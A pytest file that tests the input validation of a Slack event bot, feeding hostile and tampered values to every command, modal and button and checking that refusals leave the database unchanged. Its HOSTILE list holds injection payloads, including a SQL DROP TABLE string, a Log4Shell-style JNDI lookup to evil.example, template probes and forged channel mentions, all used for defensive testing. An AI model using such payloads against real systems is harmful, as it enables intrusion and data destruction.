"""Hostile and tampered input over signed HTTP: every command, message, modal and button answers 200, logs no
traceback, echoes no ping or link, and changes nothing where it refuses."""

from __future__ import annotations

import json
import logging
import urllib.parse
from datetime import datetime

import pytest
from sqlalchemy import select

from bot.agenda.listing import ACTION_PAGE, ACTION_SHARE
from bot.announcements import replies as announce_replies
from bot.assistant import Assistant
from bot.clock import FixedClock
from bot.partnering import replies as mr
from bot.reminders import replies as reminder_replies
from storage.db import Database
from storage.models import Announcement, Bookmark, Meeting, MeetingRequest, Unavailability
from tests.fake_slack import FakeSlack
from tests.slack_harness import SlackHttpApp, submit_view, view_payload

HOSTILE = [
    "olweus\x00day 2",
    "\x01\x02\x07\x1b[31mred\x7f\u202eevil\u202c",
    "x" * 10_000,
    "<!channel> <!here> <!everyone> come here",
    "<@U0FORGED> says hi <#C0FORGED>",
    "<https://evil.example/phish|click me> *bold* _it_ ~s~ `code` > quote",
    "שלום مرحبا 🧬🧪👩‍🔬",
    "'; DROP TABLE participants; --",
    "{{7*7}} ${jndi:ldap://evil.example/x} %s %(x)s {0}",
    "payload=%7B%22type%22%3A%22x%22%7D",
    "   ",
    "\ud800 lone surrogate",
]
MARKERS = ("<!channel", "<!here", "<!everyone", "<@U0FORGED", "<#C0FORGED", "evil.example/phish|", "\x00", "\u202e")
COMMANDS = ["/agenda", "/venue", "/partnerup", "/profile", "/partners", "/meet", "/meetings", "/announce", "/report",
            "/session", "/reminders"]  # fmt: skip
BUTTONS = [mr.ACCEPT, mr.DECLINE, mr.PROPOSE, mr.PROPOSE_DAY, mr.WITHDRAW, mr.CANCEL, mr.RESCHEDULE, mr.BLOCK_OFF,
           mr.BLOCK_ON, mr.REQUEST_MEETING, ACTION_PAGE, ACTION_SHARE, reminder_replies.BOOKMARK_ADD,
           reminder_replies.BOOKMARK_REMOVE, reminder_replies.SET_LEAD, reminder_replies.MEETING_REMINDERS,
           reminder_replies.DIGEST, announce_replies.CANCEL, announce_replies.RETRY, announce_replies.CONFIRM,
           "no_such_button_v0"]  # fmt: skip
TAMPERED = ["", "abc", "-1", "0", "999999", "1e9", "1:day:not-a-date", "1:block:x", "9999:day:2026-01-01", "<!channel>",
            "\x00", "1" * 40, "15", "5:at", "x:y:z:w", "\u0663", "\u00b2"]  # fmt: skip
MODAL_BLOCKS = ["organisation", "org_type", "role", "offers", "seeks", "interests", "available", "invitee", "topic",
                "message", "day", "reason", "when", "text", "audience", "org_types", "when_date", "when_time",
                "broadcast", "channel"]  # fmt: skip
VIEWS = ["profile_submit", "meet_submit", "decline_submit", "propose_submit", "announce_compose", "announce_confirm",
         "no_such_view_v0"]  # fmt: skip


@pytest.fixture
def assistant(event_db: Database, clock: FixedClock) -> Assistant:
    return Assistant(db=event_db, clock=clock, organisers=frozenset({"U100"}))


@pytest.fixture
def people(fake_slack: FakeSlack) -> None:
    fake_slack.add_user("U100", real_name="Ada Berg")
    fake_slack.add_user("U200", real_name="Bjørn Lund")
    fake_slack.add_user("U300", real_name="Carl Moe")


def sent_to_slack(fake: FakeSlack) -> str:
    return "\n".join(json.dumps(c.params, ensure_ascii=False) for c in fake.calls())


def assert_clean(fake: FakeSlack, caplog: pytest.LogCaptureFixture, answers: list) -> None:
    assert [a.status for a in answers if a.status != 200] == []
    echoed = sent_to_slack(fake) + "\n".join(a.body.decode("utf-8", "replace") for a in answers)
    assert [m for m in MARKERS if m in echoed] == []
    tracebacks = [r.getMessage() for r in caplog.records if r.exc_info]
    assert tracebacks == []


def ask_bjorn(slack_app: SlackHttpApp, fake_slack: FakeSlack) -> None:
    """U100 sends U200 (Bjørn) a meeting request through /meet and its modal."""
    slack_app.command("/meet", "<@U200|bjorn> TCR licensing", user="U100")
    fake_slack.wait_for("views.open")
    values = {"invitee": {"type": "users_select", "selected_user": "U200"},
              "topic": {"type": "plain_text_input", "value": "TCR licensing"}}  # fmt: skip
    assert submit_view(slack_app, view_payload("meet_submit", values, user="U100")).status == 200


def state(db: Database) -> dict:
    """What a refused action must leave alone."""
    with db.transaction() as session:
        return {
            "requests": session.execute(select(MeetingRequest.id, MeetingRequest.status).order_by(MeetingRequest.id)).all(),
            "meetings": session.execute(select(Meeting.id, Meeting.status, Meeting.slot_id).order_by(Meeting.id)).all(),
            "bookmarks": session.execute(select(Bookmark.participant_id, Bookmark.session_id)).all(),
            "announcements": session.execute(select(Announcement.id, Announcement.status)).all(),
            "unavailable": session.execute(select(Unavailability.participant_id, Unavailability.block_id)).all(),
        }


def test_hostile_text_to_every_command_and_message(
    slack_app: SlackHttpApp, fake_slack: FakeSlack, people: None, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING)
    answers = []
    for text in HOSTILE:
        if "\ud800" in text:  # a form body cannot carry a lone surrogate; JSON (the events) can
            form_safe = text.replace("\ud800", "")
        else:
            form_safe = text
        for command in COMMANDS:
            answers.append(slack_app.command(command, form_safe, user="U100"))
        answers.append(slack_app.command(COMMANDS[5], f"<@U200|bjorn> {form_safe}", user="U100"))
        answers.append(slack_app.event({"type": "message", "channel_type": "im", "channel": "D100", "user": "U100",
                                        "text": text, "ts": "1700000000.000200"}))  # fmt: skip
        answers.append(slack_app.event({"type": "app_mention", "channel": "C100", "user": "U100",
                                        "text": f"<@UBOT> {text}", "ts": "1700000000.000300"}))  # fmt: skip
    answers.append(slack_app.event({"type": "reaction_added", "user": "U100", "reaction": "+1"}))  # never subscribed
    assert_clean(fake_slack, caplog, answers)


def test_hostile_values_in_every_modal(
    slack_app: SlackHttpApp, fake_slack: FakeSlack, people: None, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING)
    answers = []
    for callback in VIEWS:
        answers.append(
            submit_view(slack_app, view_payload(callback, {}, user="U100", private_metadata=""))
        )  # missing blocks
        for text in HOSTILE[:10]:
            as_text = {block: {"type": "plain_text_input", "value": text} for block in MODAL_BLOCKS}
            as_choice = {block: {"type": "static_select", "selected_option": {"value": text}} for block in MODAL_BLOCKS}
            as_dates = {"when": {"type": "static_select", "selected_option": {"value": "at"}},
                        "when_date": {"type": "datepicker", "selected_date": text[:20] or "0000-01-01"},
                        "when_time": {"type": "timepicker", "selected_time": text[:10]},
                        "audience": {"type": "static_select", "selected_option": {"value": "everyone"}},
                        "text": {"type": "plain_text_input", "value": "Lunch"}}  # fmt: skip
            for values in (as_text, as_choice, as_dates):
                payload = view_payload(callback, values, user="U100", private_metadata=text[:100])
                answers.append(submit_view(slack_app, payload))
    assert_clean(fake_slack, caplog, answers)
    for answer in answers:  # a refusal names the field it is about
        if answer.body:
            body = json.loads(answer.body)
            assert body.get("response_action") in ("errors", "update", "clear", "push"), body


def test_tampered_values_on_every_button_change_nothing(
    slack_app: SlackHttpApp, fake_slack: FakeSlack, people: None, event_db: Database, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING)
    # Someone else's real request, so IDs that exist are tried too (U300 presses U200's buttons).
    ask_bjorn(slack_app, fake_slack)
    before = state(event_db)
    assert before["requests"], "no request to tamper with"
    real = str(before["requests"][0][0])
    answers = []
    for action_id in BUTTONS:
        for value in [*TAMPERED, real]:
            answers.append(slack_app.action(action_id, value, user="U300", in_dm=True))
    answers.append(  # a legacy attachment button from an old message
        slack_app.post_signed(
            urllib.parse.urlencode(
                {
                    "payload": json.dumps(
                        {
                            "type": "interactive_message",
                            "callback_id": "old_v0",
                            "actions": [{"name": "x", "value": "1"}],
                            "team": {"id": "T0001"},
                            "user": {"id": "U300"},
                            "response_url": fake_slack.url_root + "response/old",
                        }
                    )
                }
            ).encode(),
            "application/x-www-form-urlencoded",
        )  # fmt: skip
    )
    for kind in ("shortcut", "message_action"):
        answers.append(slack_app.post_signed(urllib.parse.urlencode({"payload": json.dumps(
            {"type": kind, "callback_id": "old_shortcut", "team": {"id": "T0001"}, "user": {"id": "U300"},
             "trigger_id": "1.2.3"})}).encode(), "application/x-www-form-urlencoded"))  # fmt: skip
    assert_clean(fake_slack, caplog, answers)
    assert state(event_db) == before


def test_an_id_in_other_digits_is_out_of_date_even_for_the_right_person(
    slack_app: SlackHttpApp, fake_slack: FakeSlack, people: None, event_db: Database
) -> None:
    """ "٣" and "²" pass str.isdigit (and int reads "٣" as 3): Bjørn's own Accept with his request's ID in Arabic-Indic
    digits is a tampered value, refused like any other."""
    ask_bjorn(slack_app, fake_slack)
    before = state(event_db)
    request_id = before["requests"][0][0]
    other_digits = "".join(chr(0x0660 + int(d)) for d in str(request_id))
    fake_slack.reset()
    assert slack_app.action("request_accept", other_digits, user="U200", in_dm=True).status == 200
    [told] = fake_slack.wait_for("response_url")
    assert "out of date" in told.params["text"]
    assert state(event_db) == before


def test_unknown_button_says_out_of_date(slack_app: SlackHttpApp, fake_slack: FakeSlack, people: None) -> None:
    answer = slack_app.action("meeting_accept_v1", "12", user="U100")
    assert answer.status == 200
    [told] = fake_slack.wait_for("response_url")
    assert "out of date" in told.params["text"] and "/meetings" in told.params["text"]


def test_payload_in_a_command_is_a_command(slack_app: SlackHttpApp, fake_slack: FakeSlack, people: None) -> None:
    """Regression: slack-bolt's form parser took any body containing "payload" for an interactivity payload."""
    answer = slack_app.command("/agenda", "ADC payload", user="U100")
    assert answer.status == 200
    assert "session" in json.loads(answer.body)["text"]  # the agenda answered (Bolt alone: 404, no listener)
    answer = slack_app.command("/meet", "<@U200|bjorn> payload chemistry", user="U100")
    assert answer.status == 200
    [opened] = fake_slack.wait_for("views.open")
    topic = {b["block_id"]: b["element"] for b in opened.params["view"]["blocks"]}["topic"]
    assert topic["initial_value"] == "payload chemistry"


def test_nul_in_a_command_is_cleaned_at_the_door(slack_app: SlackHttpApp, fake_slack: FakeSlack, people: None) -> None:
    answer = slack_app.command("/announce", "olweus\x00day 2", user="U100")
    assert answer.status == 200
    assert "\x00" not in json.dumps([c.params for c in fake_slack.calls()]) + answer.body.decode()


def test_impossible_date_in_the_compose_modal_is_refused_on_the_field(
    slack_app: SlackHttpApp, fake_slack: FakeSlack, people: None, event_db: Database
) -> None:
    for bad in ("not a date", "0000-01-01", "2026-02-30"):
        values = {"text": {"type": "plain_text_input", "value": "Lunch is served"},
                  "audience": {"type": "static_select", "selected_option": {"value": "everyone"}},
                  "when": {"type": "static_select", "selected_option": {"value": "at"}},
                  "when_date": {"type": "datepicker", "selected_date": bad},
                  "when_time": {"type": "timepicker", "selected_time": "12:00"}}  # fmt: skip
        answer = submit_view(slack_app, view_payload("announce_compose", values, user="U100"))
        assert answer.status == 200
        body = json.loads(answer.body)
        assert body["response_action"] == "errors" and "date" in json.dumps(body["errors"])
    with event_db.transaction() as session:
        assert session.scalars(select(Announcement)).all() == []
    assert datetime  # imported for readers of the payloads above
